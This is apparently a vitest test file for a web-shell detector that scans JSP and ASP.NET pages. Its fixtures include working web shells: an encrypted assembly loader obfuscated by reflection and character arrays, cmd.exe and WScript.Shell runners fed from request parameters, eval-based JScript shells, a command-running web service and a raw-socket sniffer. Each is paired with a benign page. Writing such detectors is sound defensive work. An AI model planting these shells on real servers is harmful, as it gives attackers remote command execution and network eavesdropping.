/**
 * JSP and ASP.NET pages, handlers and web services read as their compiler reads them
 * (issue 27, sixth session, from tuning-side misses): names spelt as character arrays, kept
 * in base64 or cut into joined literals; the Request object held in a variable or read by
 * reflection; a web service method's parameters; a raw socket that captures all traffic.
 * Each beside the benign page it must leave alone.
 */
import { describe, expect, it } from 'vitest';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { foldCompiledStrings } from '../../src/findings/web-shell/code-text.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const judge = (path: string, text: string) =>
  judgeWebShell(addedFile(path, text, { current: fileMeta({ sizeBytes: text.length }) }), false);
const severity = (path: string, text: string) => judge(path, text)?.severity ?? 'none';

describe('strings as the compiler sees them', () => {
  it('folds character and byte arrays, base64 names and joined literals into literals', () => {
    expect(
      foldCompiledStrings(`Type.GetType(new string(new char[] {'S','y','s',' ','\\'','\\\\'}))`),
    ).toBe(`Type.GetType("Sys '\\\\")`);
    expect(foldCompiledStrings('Class.forName(new String(new byte[]{106, 97, 118, 97}))')).toBe(
      'Class.forName("java")',
    );
    expect(
      foldCompiledStrings(
        'GetMethod(Encoding.UTF8.GetString(Convert.FromBase64String("TG9hZA==")))',
      ),
    ).toBe('GetMethod("Load")');
    expect(foldCompiledStrings('new String(Base64.getDecoder().decode("ZXhlYw=="))')).toBe(
      '"exec"',
    );
    expect(foldCompiledStrings('new ActiveXObject(unescape("%57%53cript.Shell"))')).toBe(
      'new ActiveXObject("WScript.Shell")',
    );
    expect(foldCompiledStrings('Class.forName("java.lang." + "Run" + "ti" + "me")')).toBe(
      'Class.forName("java.lang.Runtime")',
    );
  });

  it('leaves arrays of variables, and base64 of bytes that are no name, as written', () => {
    for (const text of [
      "new string(new char[] {'a', c, 'b'})",
      'new String(new byte[]{buf[0], 1})',
      'Encoding.UTF8.GetString(Convert.FromBase64String("AAECAwQ="))',
      'a("x", "y") + "z"',
    ])
      expect(foldCompiledStrings(text)).toBe(text);
  });
});

describe('ASP.NET code hidden in arrays and reflection', () => {
  const handler = `<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.Text;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    var k = Encoding.Default.GetBytes("ca63457538b9b1e0");
    var d = c.Request.BinaryRead(c.Request.ContentLength);
    var t = Type.GetType(new string(new char[] {'S','y','s','t','e','m','.','S','e','c','u','r','i','t','y','.','C','r','y','p','t','o','g','r','a','p','h','y','.','R','i','j','n','d','a','e','l','M','a','n','a','g','e','d'}));
    var i = t.GetConstructor(Type.EmptyTypes).Invoke(null);
    var m = t.GetMethod(new string(new char[] {'C','r','e','a','t','e','D','e','c','r','y','p','t','o','r'}), new Type[] { typeof(byte[]), typeof(byte[]) });
    var x = m.Invoke(i, new object[] { k, k });
    var f = x.GetType().GetMethod(new string(new char[] {'T','r','a','n','s','f','o','r','m','F','i','n','a','l','B','l','o','c','k'}));
    var p = (byte[]) f.Invoke(x, new object[] { d, 0, d.Length });
    var a = Type.GetType("System.Reflection.Assembly").GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { p });
    a.GetType().GetMethod("CreateInstance", new Type[] { typeof(string) }).Invoke(a, new object[] { "K" });
  }
  public bool IsReusable { get { return false; } }
}`;

  it('calls a handler that decrypts the request by names spelt as arrays, and loads it, a web shell', () => {
    expect(judge('/inetpub/wwwroot/h.ashx', handler)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/decrypts what the request sends/),
    });
  });

  it('follows the Request object held in a variable or read by reflection', () => {
    const aliased = `<%@ Page Language="C#" %><%
var a = Request;
if (a.Cookies.Count != 0) {
  var d = a.InputStream; byte[] e = new byte[d.Length]; d.Read(e, 0, e.Length);
  var k = System.Text.Encoding.Default.GetBytes("ca63457538b9b1e0");
  var g = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(e, 0, e.Length);
  System.Reflection.Assembly.Load(g).CreateInstance("K").Equals(this);
} %>`;
    expect(severity('/inetpub/wwwroot/a.aspx', aliased)).toBe('critical');
    const reflected = aliased
      .replace('var a = Request;\n', '')
      .replace('a.Cookies.Count != 0', 'true')
      .replace(
        'var d = a.InputStream;',
        'Stream d = (Stream)Request.GetType().GetProperty("InputStream").GetValue(Request);',
      );
    expect(severity('/inetpub/wwwroot/r.aspx', reflected)).toBe('critical');
  });

  it('ranks Process.Start looked up by its name and invoked with the request critical, and a page starting its own program not', () => {
    const page = (argument: string) => `<%@ Page Language="C#" %><%
var m = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) });
m.Invoke(null, new object[] { "cmd.exe", ${argument} }); %>`;
    expect(
      judge('/inetpub/wwwroot/p.aspx', page('"/c " + Request.QueryString["q"]')),
    ).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/looks up Process\.Start by its name/),
    });
    expect(severity('/inetpub/wwwroot/p.aspx', page('"/c dir"'))).not.toMatch(/high|critical/);
  });

  it('leaves a page that decrypts its own setting and loads a plug-in from disk below high', () => {
    const page = `<%@ Page Language="C#" %><%
var k = System.Text.Encoding.Default.GetBytes(ConfigurationManager.AppSettings["key"]);
var s = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(Secret, 0, Secret.Length);
var plugin = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Plugin.dll")).CreateInstance(new string(new char[] {'P','l','u','g'}));
Title.Text = Request.Url.Host; %>`;
    expect(severity('/inetpub/wwwroot/setup.aspx', page)).not.toMatch(/high|critical/);
  });
});

describe('JScript.NET pages', () => {
  it('reads escapes and unescape() as the compiler and the runtime do', () => {
    // The request spelt in \u escapes, in a string split across code blocks.
    const split = `<%@ Page Language="Jscript"%>
<%
    var p = eval(""%>
<%+"\\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074.Item[\\"g\\"]")
    eval(p,"unsafe");
%>`;
    expect(severity('/inetpub/wwwroot/lb.aspx', split)).toBe('critical');
    const shell = `<%@ Page Language="Jscript"%>
<%
var c = System.Web.HttpContext.Current;
var command = c.Request.Item['g'];
var r = new ActiveXObject(unescape("%57%53%63%72%69%70%74%2e%53%68%65%6c%6c")).Exec("cmd /c " + command);
Response.Write(r.StdOut.ReadAll());
%>`;
    expect(severity('/inetpub/wwwroot/u.aspx', shell)).toBe('critical');
    // A greeting kept percent-encoded, beside the request: nothing runs.
    const greeting = shell
      .replace('%57%53%63%72%69%70%74%2e%53%68%65%6c%6c', '%48%65%6c%6c%6f')
      .replace(/var r = [^\n]*\n/, 'Response.Write(unescape("%48%65%6c%6c%6f") + command);\n')
      .replace('Response.Write(r.StdOut.ReadAll());', '');
    expect(severity('/inetpub/wwwroot/hello.aspx', greeting)).not.toMatch(/high|critical/);
  });
});

describe('web services and sniffers', () => {
  it("reads a web service method's parameters as request input", () => {
    const service = `<%@ WebService Language="C#" Class="Service" %>
using System.Diagnostics; using System.Web.Services;
public class Service : WebService {
  [WebMethod]
  public string Test(string Z1, string Z2) {
    var c = new ProcessStartInfo(Z1, Z2); c.UseShellExecute = false; c.RedirectStandardOutput = true;
    var p = Process.Start(c); return p.StandardOutput.ReadToEnd();
  }
}`;
    expect(severity('/inetpub/wwwroot/cmd.asmx', service)).toBe('critical');
    // A service method with no parameters, that runs a fixed program, is worth a look only.
    const fixed = service.replace('string Z1, string Z2', '').replace('Z1, Z2', '"hostname"');
    expect(severity('/inetpub/wwwroot/host.asmx', fixed)).not.toMatch(/high|critical/);
  });

  it("reads a JScript web service method's parameters as request input", () => {
    const service = `<%@ WebService Language="JScript" class="Spy"%>import System;import System.Web;
import System.Web.Services;public class Spy extends WebService{
  WebMethodAttribute function Invoke(code : String) : Void { var c = HttpContext.Current; eval(code); } }`;
    expect(severity('/inetpub/wwwroot/spy.asmx', service)).toBe('critical');
    // A method with no parameters, evaluating a sum of its own, is worth a look only.
    const own = service.replace('code : String', '').replace('eval(code)', 'eval("1 + 2")');
    expect(severity('/inetpub/wwwroot/sum.asmx', own)).not.toMatch(/high|critical/);
  });

  it('calls a page with a raw socket set to receive every packet a sniffer, and a socket client nothing', () => {
    const sniffer = `<%@ Page Language="C#" %>
<script runat="server">
void Start(object s, EventArgs e) {
  var sock = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);
  sock.Bind(new IPEndPoint(IPAddress.Parse(ddlist.SelectedValue), 0));
  sock.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, new byte[4]);
  sock.BeginReceive(buffer, 0, buffer.Length, SocketFlags.None, OnReceive, null);
}
</script>`;
    expect(judge('/inetpub/wwwroot/sniff.aspx', sniffer)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/captures the network's traffic/),
    });
    const client = sniffer
      .replace('SocketType.Raw, ProtocolType.IP', 'SocketType.Stream, ProtocolType.Tcp')
      .replace(/sock\.IOControl[^\n]*\n/, '');
    expect(severity('/inetpub/wwwroot/ping.aspx', client)).not.toMatch(/high|critical/);
  });
});
